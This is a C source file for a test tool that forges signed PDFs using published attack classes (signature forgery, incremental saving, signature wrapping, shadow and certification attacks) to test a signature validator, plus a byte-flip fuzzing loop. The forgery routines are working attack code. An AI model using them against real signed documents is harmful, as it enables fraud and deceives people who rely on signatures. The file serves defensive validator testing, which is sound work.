/* Makes forgeries of sealed files, one a class of the published attacks on PDF signatures, for
 * attacks.t.
 *
 *     forge ATTACK IN OUT        forges the sealed file IN
 *     forge prepare IN OUT       what a shadow attack does before the seal: IN is an archive file
 *     forge flips IN ANCHORS N   changes one byte at N places of the sealed file IN, one after the
 *                                other; prints each place at which pdfcheck finds no fault
 *     forge list                 the names of the attacks
 *
 * Universal signature forgery, incremental saving and signature wrapping: Mladenov et al., "1 Trillion
 * Dollar Refund" (2019). Shadow attacks: "Shadow Attacks: Hiding and Replacing Content in Signed PDFs"
 * (2021). Attacks on certification: "Breaking the Specification: PDF Certification" (2021). */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "alloc.h"
#include "outfile.h"
#include "pdf.h"
#include "pdfcheck.h"
#include "strbuf.h"
#include "xmlx.h"

static const char evil[] = "/Artifact BMC 1 0 0 rg 0 0 400 400 re f EMC\n";

struct forge {
    struct strbuf *file;
    struct pdf *pdf;
    struct diag *d;
};

static void die(const char *what)
{
    fprintf(stderr, "forge: %s\n", what);
    exit(2);
}

/* ---- what attacks need ----------------------------------------------------------------------- */

/* Appends what was changed in the document as a revision. */
static void save(struct forge *f)
{
    struct pdf_append_options options = { 0 };
    struct strbuf update = STRBUF_INIT;

    if (pdf_append(f->pdf, &options, &update, NULL, f->d))
        die("cannot append");
    strbuf_add(f->file, update.buf, update.len);
    strbuf_release(&update);
}

static struct pdf_obj *page(struct forge *f)
{
    return pdf_page(f->pdf, 0);
}

static struct pdf_obj *contents(struct forge *f)
{
    struct pdf_obj *found = pdf_get(f->pdf, page(f), "Contents");

    if (pdf_kind(found) == PDF_ARRAY)
        found = pdf_at(f->pdf, found, 0);
    if (pdf_kind(found) != PDF_STREAM)
        die("no content");
    return found;
}

static struct pdf_obj *seal_field(struct forge *f)
{
    struct pdf_obj *form = pdf_get(f->pdf, pdf_catalog(f->pdf), "AcroForm");

    return pdf_at(f->pdf, pdf_get(f->pdf, form, "Fields"), 0);
}

/* The last place of WORD in the file: of the newest dictionary that has it. */
static char *last(struct forge *f, const char *word)
{
    size_t n = strlen(word), i;

    for (i = f->file->len - n; i > 0; i--)
        if (!memcmp(f->file->buf + i, word, n))
            return f->file->buf + i;
    die(word);
    return NULL;
}

/* The seal's hole: from its '<' to its '>', both inclusive. */
static char *hole(struct forge *f, size_t *n)
{
    const struct pdf_obj *range =
        pdf_get(f->pdf, pdf_get(f->pdf, seal_field(f), "V"), "ByteRange");
    size_t begin = (size_t)pdf_int(pdf_at(f->pdf, range, 1));

    *n = (size_t)pdf_int(pdf_at(f->pdf, range, 2)) - begin;
    return f->file->buf + begin;
}

/* The seal's ByteRange in the file: its text begins before the hole. */
static char *byte_range(struct forge *f)
{
    size_t n;
    char *p = hole(f, &n);

    while (--p > f->file->buf)
        if (!memcmp(p, "/ByteRange", 10))
            return p;
    die("no ByteRange");
    return NULL;
}

/* Writes TEXT over the seal's ByteRange. */
static void put_range(struct forge *f, const char *text)
{
    char *p = byte_range(f), *end = memchr(p, ']', 200);

    for (end++; *end == ' '; end++)
        ;
    if ((size_t)(end - p) < strlen(text))
        die("no room");
    memset(p, ' ', (size_t)(end - p));
    memcpy(p, text, strlen(text));
}

static void put_contents(struct forge *f, const char *text)
{
    size_t n;
    char *p = hole(f, &n);

    memset(p, ' ', n);
    memcpy(p, text, strlen(text));
}

/* Appends a cross-reference section that says that object NUMBER begins at AT, and nothing else. */
static void redirect(struct forge *f, int number, size_t at)
{
    int self = pdf_objects(f->pdf), shift;
    unsigned long previous = strtoul(last(f, "startxref") + 9, NULL, 10);
    size_t places[2], i;

    strbuf_addstr(f->file, "\n");
    places[0] = at;
    places[1] = f->file->len;
    strbuf_addf(f->file,
                "%d 0 obj\n<</Type/XRef/W[1 4 1]/Index[%d 1 %d 1]/Size %d/Root %d 0 R/Prev %lu"
                "/Length 12>>\nstream\n", self, number, self, self + 1,
                pdf_owner(pdf_catalog(f->pdf)), previous);
    for (i = 0; i < 2; i++) {
        strbuf_addch(f->file, 1);
        for (shift = 24; shift >= 0; shift -= 8)
            strbuf_addch(f->file, (char)(places[i] >> shift & 255));
        strbuf_addch(f->file, 0);
    }
    strbuf_addf(f->file, "\nendstream\nendobj\nstartxref\n%zu\n%%%%EOF\n", places[1]);
}

/* ---- universal signature forgery: the signature is there but cannot be judged ---------------- */

static void usf_range_missing(struct forge *f) { memcpy(byte_range(f), "/ByteRangX", 10); }
static void usf_range_null(struct forge *f) { put_range(f, "/ByteRange null"); }
static void usf_range_empty(struct forge *f) { put_range(f, "/ByteRange []"); }
static void usf_range_zero(struct forge *f) { put_range(f, "/ByteRange [0 0 0 0]"); }
static void usf_range_negative(struct forge *f) { put_range(f, "/ByteRange [0 -1 -1 -1]"); }
static void usf_contents_null(struct forge *f) { put_contents(f, "null"); }
static void usf_contents_empty(struct forge *f) { put_contents(f, "<>"); }
static void usf_contents_zero(struct forge *f) { put_contents(f, "<00>"); }

static void usf_contents_missing(struct forge *f)
{
    size_t n;
    char *p = hole(f, &n);

    while (memcmp(--p, "/Contents", 9))
        ;
    memcpy(p, "/Contentz", 9);
}

static void usf_contents_zeros(struct forge *f)
{
    size_t n;
    char *p = hole(f, &n);

    memset(p + 1, '0', n - 2);
}

/* ---- incremental saving ---------------------------------------------------------------------- */

static void isa_update(struct forge *f)
{
    pdf_stream_set(f->pdf, contents(f), evil, sizeof evil - 1, 0);
    save(f);
}

static void isa_no_xref(struct forge *f)
{
    strbuf_addf(f->file, "\n%d 0 obj\n<</Length %zu>>\nstream\n%s\nendstream\nendobj\n%%%%EOF\n",
                pdf_owner(contents(f)), sizeof evil - 1, evil);
}

/* The update brings a copy of the signature, for readers that ask only the newest. */
static void isa_copied_signature(struct forge *f)
{
    struct pdf_obj *copy = pdf_copy(f->pdf, pdf_get(f->pdf, seal_field(f), "V"));

    pdf_set_ref(f->pdf, seal_field(f), "V", pdf_add(f->pdf, copy));
    isa_update(f);
}

static void isa_other_catalog(struct forge *f)
{
    struct pdf_obj *copy = pdf_copy(f->pdf, pdf_catalog(f->pdf));

    pdf_set_text(f->pdf, copy, "Lang", "de");
    pdf_set_ref(f->pdf, pdf_trailer(f->pdf), "Root", pdf_add(f->pdf, copy));
    save(f);
}

/* The change hides behind a security store that names it. */
static void isa_in_store(struct forge *f)
{
    struct pdf_obj *store = pdf_new_dict(f->pdf);

    pdf_set_ref(f->pdf, store, "Proof", pdf_owner(contents(f)));
    pdf_set_ref(f->pdf, pdf_catalog(f->pdf), "DSS", pdf_add(f->pdf, store));
    isa_update(f);
}

static void isa_metadata(struct forge *f)
{
    struct pdf_obj *stream = pdf_get(f->pdf, pdf_catalog(f->pdf), "Metadata");

    pdf_stream_set(f->pdf, stream, "<x/>", 4, 0);
    save(f);
}

static void isa_attachment(struct forge *f)
{
    struct pdf_obj *spec = pdf_at(f->pdf, pdf_get(f->pdf, pdf_catalog(f->pdf), "AF"), 0);

    pdf_stream_set(f->pdf, pdf_get(f->pdf, pdf_get(f->pdf, spec, "EF"), "F"), "<x/>", 4, 0);
    save(f);
}

/* ---- signature wrapping ---------------------------------------------------------------------- */

/* Puts TEXT into the hole after the signature, which loses its padding for that; without enough of it
 * what follows moves. Returns where TEXT begins. */
static size_t wrap(struct forge *f, const char *text)
{
    struct strbuf tail = STRBUF_INIT;
    size_t n, used, begin;
    char *p = hole(f, &n);

    begin = (size_t)(p - f->file->buf);
    for (used = n - 1; used > 1 && p[used - 1] == '0'; used--)
        ;
    used += used % 2 ? 0 : 1;
    strbuf_add(&tail, p + n, f->file->len - begin - n);
    f->file->len = begin + used;
    strbuf_addch(f->file, '>');
    strbuf_addstr(f->file, text);
    while (f->file->len < begin + n)
        strbuf_addch(f->file, ' ');
    strbuf_add(f->file, tail.buf, tail.len);
    strbuf_release(&tail);
    return begin + used + 1;
}

static void swa_second_range(struct forge *f)
{
    struct strbuf text = STRBUF_INIT;
    size_t n, begin = (size_t)(hole(f, &n) - f->file->buf);

    strbuf_addf(&text, "/ByteRange[0 %zu %zu %zu]", begin, begin + n, f->file->len - begin - n);
    wrap(f, text.buf);
    strbuf_release(&text);
}

/* An object lies in the hole, and a cross-reference section leads to it. */
static void swa_object_in_hole(struct forge *f)
{
    struct strbuf text = STRBUF_INIT;
    int number = pdf_owner(contents(f));

    strbuf_addf(&text, ">>endobj\n%d 0 obj\n<</Length %zu>>\nstream\n%s\nendstream\nendobj\n", number,
                sizeof evil - 1, evil);
    redirect(f, number, wrap(f, text.buf) + strlen(">>endobj\n"));
    strbuf_release(&text);
}

/* What is signed behind the hole moves away, and a wider ByteRange follows it. */
static void swa_moved(struct forge *f)
{
    struct strbuf text = STRBUF_INIT, tail = STRBUF_INIT;
    size_t n, begin = (size_t)(hole(f, &n) - f->file->buf), end = begin + n;

    strbuf_addf(&text, "/ByteRange[0 %zu %zu %zu]", begin, end + sizeof evil, f->file->len - end);
    strbuf_add(&tail, f->file->buf + end, f->file->len - end);
    put_range(f, text.buf);
    f->file->len = end;
    strbuf_add(f->file, evil, sizeof evil);
    strbuf_add(f->file, tail.buf, tail.len);
    strbuf_release(&tail);
    strbuf_release(&text);
}

/* ---- shadow attacks: what was prepared before the seal comes to light after it --------------- */

/* The content is covered by a second stream; and it was another, which a later revision took back. */
static void prepare(struct forge *f)
{
    struct pdf_obj *stream = contents(f), *cover = pdf_new_stream(f->pdf), *list;
    struct strbuf before = STRBUF_INIT;
    int number = pdf_owner(stream);
    struct strbuf *kept = f->file;

    if (pdf_stream_data(f->pdf, stream, &before, f->d))
        die("no content");
    pdf_stream_set(f->pdf, stream, evil, sizeof evil - 1, 0);
    pdf_stream_set(f->pdf, cover, evil, sizeof evil - 1, 0);
    list = pdf_new_array(f->pdf);
    pdf_push_ref(f->pdf, list, number);
    pdf_push_ref(f->pdf, list, pdf_add(f->pdf, cover));
    pdf_set(f->pdf, page(f), "Contents", list);
    save(f);
    pdf_advance(f->pdf, kept->buf, kept->len);
    pdf_stream_set(f->pdf, stream, before.buf, before.len, 0);
    save(f);
    strbuf_release(&before);
}

static void shadow_hide(struct forge *f)
{
    struct pdf_obj *list = pdf_get(f->pdf, page(f), "Contents");

    pdf_stream_set(f->pdf, pdf_at(f->pdf, list, 1), "", 0, 0);
    save(f);
}

static void shadow_replace(struct forge *f)
{
    const struct pdf_obj *fonts =
        pdf_get(f->pdf, pdf_page_get(f->pdf, 0, "Resources"), "Font");
    const char *key;
    struct pdf_obj *font;

    if (!pdf_dict_at(fonts, 0, &key, &font))
        die("no font");
    pdf_set_name(f->pdf, pdf_resolve(f->pdf, font), "BaseFont", "Other");
    save(f);
}

static void shadow_hide_and_replace(struct forge *f)
{
    int number = pdf_owner(contents(f));
    char word[32], *p = f->file->buf;
    size_t found = 0, i, n = (size_t)snprintf(word, sizeof word, "\n%d 0 obj", number);

    for (i = 0; i + n < f->file->len && found < 2; i++)
        if (!memcmp(p + i, word, n) && ++found == 2)
            redirect(f, number, i + 1);
    if (found < 2)
        die("it was not prepared");
}

/* ---- attacks on certification ---------------------------------------------------------------- */

static int appearance(struct forge *f)
{
    struct pdf_obj *stream = pdf_new_stream(f->pdf), *box = pdf_new_array(f->pdf);
    int i;

    pdf_stream_set(f->pdf, stream, evil, sizeof evil - 1, 0);
    pdf_set_name(f->pdf, stream, "Type", "XObject");
    pdf_set_name(f->pdf, stream, "Subtype", "Form");
    for (i = 0; i < 4; i++)
        pdf_push_int(f->pdf, box, i < 2 ? 0 : 400);
    pdf_set(f->pdf, stream, "BBox", box);
    return pdf_add(f->pdf, stream);
}

static struct pdf_obj *add_annotation(struct forge *f, const char *subtype, int shown)
{
    struct pdf_obj *annot = pdf_new_dict(f->pdf), *rect = pdf_new_array(f->pdf);
    int i;

    pdf_set_name(f->pdf, annot, "Type", "Annot");
    pdf_set_name(f->pdf, annot, "Subtype", subtype);
    pdf_set_int(f->pdf, annot, "F", 4);
    for (i = 0; i < 4; i++)
        pdf_push_int(f->pdf, rect, i < 2 || !shown ? 0 : 400);
    pdf_set(f->pdf, annot, "Rect", rect);
    if (shown)
        pdf_set_ref(f->pdf, pdf_need_dict(f->pdf, annot, "AP"), "N", appearance(f));
    pdf_push_ref(f->pdf, pdf_need_array(f->pdf, page(f), "Annots"), pdf_add(f->pdf, annot));
    return annot;
}

static void eaa_free_text(struct forge *f)
{
    add_annotation(f, "FreeText", 1);
    save(f);
}

static void eaa_stamp(struct forge *f)
{
    add_annotation(f, "Stamp", 1);
    save(f);
}

static void add_field(struct forge *f, struct pdf_obj *field, const char *type)
{
    struct pdf_obj *form = pdf_get(f->pdf, pdf_catalog(f->pdf), "AcroForm");
    struct pdf_obj *sig = pdf_new_dict(f->pdf);

    pdf_set_name(f->pdf, sig, "Type", type);
    pdf_set_name(f->pdf, field, "FT", "Sig");
    pdf_set_text(f->pdf, field, "T", "Second");
    pdf_set_ref(f->pdf, field, "V", pdf_add(f->pdf, sig));
    pdf_push_ref(f->pdf, pdf_get(f->pdf, form, "Fields"), pdf_owner(field));
    save(f);
}

static void ssa_visible(struct forge *f) { add_field(f, add_annotation(f, "Widget", 1), "Sig"); }
static void ssa_invisible(struct forge *f) { add_field(f, add_annotation(f, "Widget", 0), "Sig"); }

static void ssa_stamp(struct forge *f)
{
    add_field(f, add_annotation(f, "Widget", 1), "DocTimeStamp");
}

static void ssa_own_appearance(struct forge *f)
{
    pdf_set_ref(f->pdf, pdf_need_dict(f->pdf, seal_field(f), "AP"), "N", appearance(f));
    save(f);
}

static const struct {
    const char *name;
    void (*forge)(struct forge *);
} attacks[] = {
    { "usf-range-missing", usf_range_missing }, { "usf-range-null", usf_range_null },
    { "usf-range-empty", usf_range_empty }, { "usf-range-zero", usf_range_zero },
    { "usf-range-negative", usf_range_negative }, { "usf-contents-missing", usf_contents_missing },
    { "usf-contents-null", usf_contents_null }, { "usf-contents-empty", usf_contents_empty },
    { "usf-contents-zero", usf_contents_zero }, { "usf-contents-zeros", usf_contents_zeros },
    { "isa-update", isa_update }, { "isa-no-xref", isa_no_xref },
    { "isa-copied-signature", isa_copied_signature }, { "isa-other-catalog", isa_other_catalog },
    { "isa-in-store", isa_in_store }, { "isa-metadata", isa_metadata },
    { "isa-attachment", isa_attachment }, { "swa-second-range", swa_second_range },
    { "swa-object-in-hole", swa_object_in_hole }, { "swa-moved", swa_moved },
    { "shadow-hide", shadow_hide }, { "shadow-replace", shadow_replace },
    { "shadow-hide-and-replace", shadow_hide_and_replace }, { "eaa-free-text", eaa_free_text },
    { "eaa-stamp", eaa_stamp }, { "ssa-visible", ssa_visible }, { "ssa-invisible", ssa_invisible },
    { "ssa-stamp", ssa_stamp }, { "ssa-own-appearance", ssa_own_appearance },
};

/* ---- one changed byte ------------------------------------------------------------------------ */

static int flips(const char *path, const char *anchors, long n)
{
    struct pdfcheck_options options = { .trust = anchors, .at = PDFCHECK_NO_DATE };
    struct strbuf file = STRBUF_INIT;
    struct pdfcheck_report report;
    struct diag d;
    unsigned long long random = 19005;
    long i, missed = 0;
    int sound;

    if (strbuf_read_file(&file, path, 1 << 28))
        die(path);
    for (i = -1; i < n; i++) {
        size_t at;
        char by;

        random = random * 6364136223846793005ULL + 1442695040888963407ULL;
        at = (size_t)(random >> 20) % file.len;
        by = i < 0 ? 0 : (char)(1 + (random >> 12) % 255);
        file.buf[at] ^= by;
        diag_init(&d, "forge");
        d.out = NULL;
        sound = !pdfcheck(file.buf, file.len, path, &options, &report, &d);
        pdfcheck_release(&report);
        file.buf[at] ^= by;
        if (i < 0 && !sound)
            die("the file itself does not conform");
        if (i >= 0 && sound) {
            printf("%zu\n", at);
            missed++;
        }
    }
    strbuf_release(&file);
    return missed ? 1 : 0;
}

int main(int argc, char **argv)
{
    struct strbuf file = STRBUF_INIT, copy = STRBUF_INIT;
    struct diag d;
    struct forge f = { &file, NULL, &d };
    size_t i;

    xmlx_init();
    diag_init(&d, "forge");
    if (argc == 2 && !strcmp(argv[1], "list")) {
        for (i = 0; i < sizeof attacks / sizeof *attacks; i++)
            puts(attacks[i].name);
        return 0;
    }
    if (argc == 5 && !strcmp(argv[1], "flips"))
        return flips(argv[2], argv[3], strtol(argv[4], NULL, 10));
    if (argc != 4 || strbuf_read_file(&file, argv[2], 1 << 28) ||
        strbuf_read_file(&copy, argv[2], 1 << 28))
        die("usage: forge ATTACK IN OUT");
    f.pdf = pdf_parse(copy.buf, copy.len, argv[2], &d);
    if (!f.pdf)
        return 2;
    for (i = 0; i < sizeof attacks / sizeof *attacks; i++)
        if (!strcmp(argv[1], attacks[i].name))
            attacks[i].forge(&f);
    if (!strcmp(argv[1], "prepare"))
        prepare(&f);
    if (file.len == copy.len && !memcmp(file.buf, copy.buf, file.len))
        die("nothing was forged");
    outfile_write(argv[3], file.buf, file.len, OUTFILE_BINARY, &d);
    pdf_free(f.pdf);
    strbuf_release(&copy);
    strbuf_release(&file);
    return diag_status(&d);
}
